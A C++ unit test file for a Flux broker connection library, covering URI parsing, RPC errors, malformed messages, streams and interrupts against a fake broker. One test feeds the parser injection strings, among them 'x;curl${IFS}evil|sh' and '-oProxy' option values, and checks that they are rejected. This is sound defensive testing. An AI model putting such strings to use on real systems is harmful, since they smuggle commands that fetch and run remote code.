// SPDX-License-Identifier: LGPL-3.0-or-later
// A connection against a broker that says what a test wants it to say.
#include "lib/flux/connection.h"
#include "lib/flux/services.h"
#include "tests/unit/flux/fake_broker.h"

#include <catch2/catch.hpp>
#include <cstdlib>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

using namespace fluxdat;
using namespace fluxdat::flux;
using fluxdat::test::FakeBroker;

namespace {

// Connects and makes one call.
Task<Result<Json>> call(Loop& loop, std::string uri, Interrupt* interrupt = nullptr)
{
    auto flux = co_await Connection::open(loop, std::move(uri), interrupt);
    if (!flux)
        co_return std::unexpected(flux.error());
    Json payload{{"name", "size"}};
    co_return co_await (*flux)->rpc("attr.get", std::move(payload), nodeid_any,
                                    interrupt);
}

Result<Json> call_with(std::function<void(FakeBroker::Client&)> script)
{
    FakeBroker broker(std::move(script));
    Loop loop;
    return loop.run(call(loop, broker.uri()));
}

} // namespace

TEST_CASE("URIs")
{
    unsetenv("FLUX_URI_RESOLVE_LOCAL");
    auto local = parse_uri("local:///run/flux/local");
    REQUIRE(local);
    CHECK(local->scheme == Uri::Scheme::local);
    CHECK(local->path == "/run/flux/local");
    auto ssh = parse_uri("ssh://me@fluke1:2222/tmp/x/local");
    REQUIRE(ssh);
    CHECK(ssh->scheme == Uri::Scheme::ssh);
    CHECK(ssh->host == "me@fluke1:2222");
    CHECK(ssh->path == "/tmp/x/local");
    CHECK(parse_uri("ssh://node-1.example/run/flux/dat-f1a_2+3,4=5@6:7%8~9/local?x=y"));
    for (auto* bad :
         {"", "/run/flux/local", "http://x/y", "local://", "local://x", "ssh://",
          "ssh://host", "ssh://host/", "ssh:///path", "ssh://-oProxy/x", "ssh://@h/x",
          "ssh://a@-oProxy/x", "ssh://a@/x", "ssh://h:/x", "ssh://h:22x/x",
          "ssh://a@b@-h/x", "ssh://:22/x", "ssh://h:-1/x"}) {
        auto uri = parse_uri(bad);
        INFO(bad);
        REQUIRE(!uri);
        CHECK(uri.error().exit == Exit::usage);
    }
    setenv("FLUX_URI_RESOLVE_LOCAL", "t", 1);
    auto resolved = parse_uri("ssh://elsewhere/tmp/local");
    unsetenv("FLUX_URI_RESOLVE_LOCAL");
    REQUIRE(resolved);
    CHECK(resolved->scheme == Uri::Scheme::local);
}

TEST_CASE("What a shell might obey does not get to ssh")
{
    unsetenv("FLUX_URI_RESOLVE_LOCAL");
    for (bool resolved : {false, true}) {
        if (resolved) // a slip of the environment must not make the difference
            setenv("FLUX_URI_RESOLVE_LOCAL", "t", 1);
        for (std::string_view c :
             {";", " ", "\t", "\n", "\r",   "$",    "`",    "'", "\"", "|",
              "&", "<", ">",  "(",  ")",    "*",    "\\",   "{", "}",  "!",
              "#", "^", "[",  "]",  "\x01", "\x7f", "\x9b", "ä"})
            for (auto& uri : {fmt::format("ssh://node7/x{}y", c),
                              fmt::format("ssh://node{}7/x", c)}) {
                INFO(uri);
                CHECK_FALSE(parse_uri(uri));
            }
        auto nul = parse_uri(std::string_view("ssh://node7/x\0y", 15));
        REQUIRE_FALSE(nul);
        CHECK(nul.error().message.find("x\\x00y") != std::string::npos);
    }
    unsetenv("FLUX_URI_RESOLVE_LOCAL");
    auto error = parse_uri("ssh://node7/x;curl${IFS}evil|sh").error();
    CHECK(error.exit == Exit::usage);
    CHECK(error.message.find("the shell of another host might obey")
          != std::string::npos);
}

TEST_CASE("A call and its answer")
{
    auto answer = call_with([](auto& client) {
        client.welcome();
        auto request = client.receive();
        REQUIRE(request);
        CHECK(*request->topic == "attr.get");
        CHECK(request->payload_text() == R"({"name":"size"})");
        CHECK(request->userid == userid_unknown);
        client.respond(*request, R"({"value":"4","flags":1})");
    });
    REQUIRE(answer);
    CHECK((*answer)["value"] == "4");
}

TEST_CASE("A service's error comes with its own words")
{
    auto answer = call_with([](auto& client) {
        client.welcome();
        auto request = client.receive();
        client.respond_error(*request, ENOSYS, "No service matching attr.get");
    });
    REQUIRE(!answer);
    CHECK(answer.error().errnum == ENOSYS);
    CHECK(answer.error().message == "No service matching attr.get");
    answer = call_with([](auto& client) {
        client.welcome();
        client.respond_error(*client.receive(), EPERM);
    });
    REQUIRE(!answer);
    CHECK(answer.error().message == "attr.get: Operation not permitted");
    CHECK(answer.error().exit == Exit::not_permitted);
}

TEST_CASE("No broker, and no permission")
{
    Loop loop;
    auto answer = loop.run(call(loop, "local:///nonexistent/flux/local"));
    REQUIRE(!answer);
    CHECK(answer.error().message.find("/nonexistent/flux/local") != std::string::npos);
    CHECK(answer.error().message.find("flux-dat sandbox up") != std::string::npos);

    answer = loop.run(call(loop, "local:///" + std::string(200, 'x')));
    REQUIRE(!answer);
    CHECK(answer.error().exit == Exit::usage);
    CHECK(answer.error().message.find("at most 107") != std::string::npos);

    answer = call_with([](auto& client) { client.send("\x01"); });
    REQUIRE(!answer);
    CHECK(answer.error().exit == Exit::not_permitted);
    CHECK(answer.error().message.find("refused the connection") != std::string::npos);

    answer = call_with([](auto&) {});
    REQUIRE(!answer);
    CHECK(answer.error().message.find("before its welcome") != std::string::npos);

    setenv("FLUX_SSH", "/bin/false", 1);
    answer = loop.run(call(loop, "ssh://elsewhere/run/local"));
    unsetenv("FLUX_SSH");
    REQUIRE(!answer);
    CHECK(
        answer.error().message.find("(tried: ssh elsewhere flux relay /run/local): if "
                                    "that is this host, set FLUX_URI_RESOLVE_LOCAL=t")
        != std::string::npos);
}

TEST_CASE("A broker that speaks nonsense")
{
    auto error_of = [](std::string bytes) {
        auto answer = call_with([&](auto& client) {
            client.welcome();
            client.receive();
            client.send(bytes);
            client.receive(); // until the client hangs up
        });
        REQUIRE(!answer);
        CHECK(answer.error().errnum == EPROTO);
        return answer.error().message;
    };
    CHECK_THAT(error_of("HTTP/1.1 400 Bad Request\r\n\r\n"),
               Catch::Contains("bad magic"));
}

TEST_CASE("Messages that cannot be read do not end the connection")
{
    std::string head("\x12\x00\xee\xff", 4);
    auto hops = make_request("1001-dat-f1.x", "");
    hops.routes.assign(300, "a");
    auto large = make_request("1001-dat-f1.x", std::string(message_size_max, 'x'));
    for (auto& bytes :
         {head + std::string("\x00\x00\x00\x05\xff\xff\xff\xff\xff", 9),
          head + std::string("\x00\x00\x00\x00", 4), encode(hops), encode(large)}) {
        auto answer = call_with([&](auto& client) {
            client.welcome();
            auto request = client.receive();
            client.send(bytes);
            client.respond(*request, R"({"value":"4"})");
        });
        REQUIRE(answer);
        CHECK((*answer)["value"] == "4");
    }
}

TEST_CASE("An answer that cannot be read is an error of its request alone")
{
    std::optional<Error> errors[3];
    FakeBroker broker([](auto& client) {
        client.welcome();
        auto first = client.receive();
        client.respond(*first,
                       "{\"x\":\"" + std::string(message_size_max, 'x') + "\"}");
        auto second = client.receive();
        auto hops = make_response(*second, "{}");
        hops.routes.assign(300, "a");
        client.send(encode(hops));
        auto stream = client.receive();
        hops = make_response(*stream, "{}");
        hops.routes.assign(300, "a");
        client.send(encode(hops));
        client.respond(*stream, R"({"n":1})");
        client.respond_error(*stream, ENODATA);
        client.receive();
    });
    Loop loop;
    auto flow = [&](Loop& event_loop, std::string uri) -> Task<Result<>> {
        auto flux = co_await Connection::open(event_loop, std::move(uri));
        if (!flux)
            co_return std::unexpected(flux.error());
        for (auto& error : {&errors[0], &errors[1]}) {
            auto answer = co_await (*flux)->rpc("attr.get");
            CHECK_FALSE(answer);
            if (!answer)
                *error = answer.error();
        }
        auto stream = (*flux)->stream("job-list.list", Json::object());
        auto answer = co_await stream.next();
        CHECK_FALSE(answer);
        if (!answer)
            errors[2] = answer.error();
        answer = co_await stream.next();
        CHECK((answer && *answer && (**answer)["n"] == 1));
        answer = co_await stream.next();
        CHECK((answer && !*answer));
        CHECK_FALSE((*flux)->lost());
        co_return Result<>{};
    };
    REQUIRE(loop.run(flow(loop, broker.uri())));
    REQUIRE((errors[0] && errors[1] && errors[2]));
    CHECK(errors[0]->errnum == EMSGSIZE);
    CHECK_THAT(errors[0]->message,
               Catch::StartsWith("attr.get: the answer is a message of 6710")
                   && Catch::EndsWith("bytes (at most 67108864)"));
    CHECK(errors[1]->errnum == EPROTO);
    CHECK_THAT(
        errors[1]->message,
        Catch::StartsWith("attr.get: the answer is malformed message: more parts"));
    CHECK(errors[2]->errnum == EPROTO);
}

TEST_CASE("One job that cannot be read does not hide the others")
{
    std::vector<JobId> ids;
    FakeBroker broker([](auto& client) {
        client.welcome();
        std::string large(message_size_max, 'x');
        auto all = client.receive();
        client.respond(*all, R"({"jobs":[{"id":1,"name":")" + large + "\"}]}");
        auto singly = client.receive();
        REQUIRE(singly);
        CHECK(singly->streaming());
        CHECK(singly->payload_text() == all->payload_text());
        client.respond(*singly, R"({"jobs":[{"id":1}]})");
        client.respond(*singly, R"({"jobs":[{"id":2,"name":")" + large + "\"}]}");
        client.respond(*singly, R"({"jobs":[{"id":3}]})");
        client.respond_error(*singly, ENODATA);
        client.receive();
    });
    Loop loop;
    auto flow = [&](Loop& event_loop, std::string uri) -> Task<Result<>> {
        auto flux = co_await Connection::open(event_loop, std::move(uri));
        if (!flux)
            co_return std::unexpected(flux.error());
        auto jobs = co_await list_jobs(**flux, Json::object());
        if (!jobs)
            co_return std::unexpected(jobs.error());
        for (auto& job : *jobs)
            ids.push_back(job.id);
        co_return Result<>{};
    };
    REQUIRE(loop.run(flow(loop, broker.uri())));
    CHECK(ids == std::vector<JobId>{1, 3});
}

TEST_CASE("Answers that are no JSON, or too deep")
{
    auto answer_of = [](std::string payload) {
        return call_with([&](auto& client) {
            client.welcome();
            client.respond(*client.receive(), payload);
        });
    };
    std::string deep(100000, '[');
    for (auto& payload : {std::string("{"), std::string("[]"), std::string("17"),
                          R"({"a":)" + deep, std::string("{\"a\":\"\xff\"}")}) {
        auto answer = answer_of(payload);
        REQUIRE(!answer);
        CHECK(answer.error().errnum == EPROTO);
        CHECK(answer.error().message.starts_with("attr.get: the answer is "));
    }
}

TEST_CASE("A broker that dies in the middle of a call")
{
    auto answer = call_with([](auto& client) {
        client.welcome();
        client.receive();
        client.send(std::string("\x12\x00\xee\xff\x00\x00", 6)); // and no more
    });
    REQUIRE(!answer);
    CHECK(answer.error().errnum == ECONNRESET);
    CHECK_THAT(answer.error().message, Catch::Contains("lost the connection"));
}

TEST_CASE("A stream ends regularly, and can be cancelled")
{
    std::optional<Message> cancel;
    FakeBroker broker([&](auto& client) {
        client.welcome();
        auto first = client.receive();
        CHECK(first->streaming());
        client.respond(*first, R"({"event":"{\"timestamp\":1.5,\"name\":\"a\"}\n"})");
        client.respond_error(*first, ENODATA);
        auto second = client.receive();
        client.respond(*second, R"({"event":"{\"timestamp\":2.5,\"name\":\"b\"}\n"})");
        cancel = client.receive();
    });
    Loop loop;
    auto flow = [](Loop& event_loop, std::string uri) -> Task<Result<>> {
        auto flux = co_await Connection::open(event_loop, std::move(uri));
        if (!flux)
            co_return std::unexpected(flux.error());
        {
            EventlogWatch watch(**flux, 17, "eventlog");
            auto event = co_await watch.next();
            CHECK((event && *event && (*event)->name == "a"));
            event = co_await watch.next();
            CHECK((event && !*event));
            event = co_await watch.next(); // the end stays the end
            CHECK((event && !*event));
        }
        EventlogWatch watch(**flux, 18, "eventlog");
        auto event = co_await watch.next();
        CHECK((event && *event && (*event)->name == "b"));
        co_return Result<>{};
    };
    REQUIRE(loop.run(flow(loop, broker.uri())));
    broker.join();
    REQUIRE(cancel);
    CHECK(*cancel->topic == "job-info.eventlog-watch-cancel");
    CHECK(cancel->noresponse());
}

TEST_CASE("An interrupt ends a wait, not the connection")
{
    FakeBroker broker([](auto& client) {
        client.welcome();
        client.receive();
        client.receive(); // the client hangs up
    });
    Loop loop;
    auto flow = [](Loop& event_loop, std::string uri) -> Task<Result<Json>> {
        auto flux = co_await Connection::open(event_loop, std::move(uri));
        if (!flux)
            co_return std::unexpected(flux.error());
        Interrupt interrupt;
        event_loop.spawn([](Loop& inner, Interrupt& raised) -> Task<void> {
            (void)co_await inner.sleep(0);
            raised.raise({"enough", EINTR});
        }(event_loop, interrupt));
        auto answer =
            co_await (*flux)->rpc("never.answered", nullptr, nodeid_any, &interrupt);
        CHECK(!(*flux)->lost());
        co_return answer;
    };
    auto answer = loop.run(flow(loop, broker.uri()));
    REQUIRE(!answer);
    CHECK(answer.error().message == "enough");
}

TEST_CASE("Requests served carry who sent them")
{
    std::optional<Message> answer;
    FakeBroker broker([&](auto& client) {
        client.welcome();
        auto add = client.receive();
        CHECK(add->payload_text() == R"({"service":"1001-dat-f1"})");
        client.respond(*add, "");
        auto request = make_request("1001-dat-f1.status", "{}");
        request.userid = 1001;
        request.rolemask = role_user;
        request.aux2 = 5;
        client.send(encode(request));
        auto frame = client.receive(); // a response, decoded as any message
        answer = frame;
    });
    Loop loop;
    auto flow = [](Loop& event_loop, std::string uri) -> Task<Result<>> {
        auto flux = co_await Connection::open(event_loop, std::move(uri));
        if (!flux)
            co_return std::unexpected(flux.error());
        Waiter served;
        auto& connection = **flux;
        auto added =
            co_await connection.serve("1001-dat-f1", [&](const Message& request) {
                CHECK(request.userid == 1001);
                CHECK(request.rolemask == role_user);
                connection.respond_error(request, EPERM, "not you");
                served.wake();
            });
        if (!added)
            co_return added;
        co_await served;
        co_return Result<>{};
    };
    REQUIRE(loop.run(flow(loop, broker.uri())));
    broker.join();
    REQUIRE(answer);
    CHECK(answer->errnum() == EPERM);
    CHECK(answer->matchtag() == 5);
    CHECK(answer->payload_text() == "not you");
}
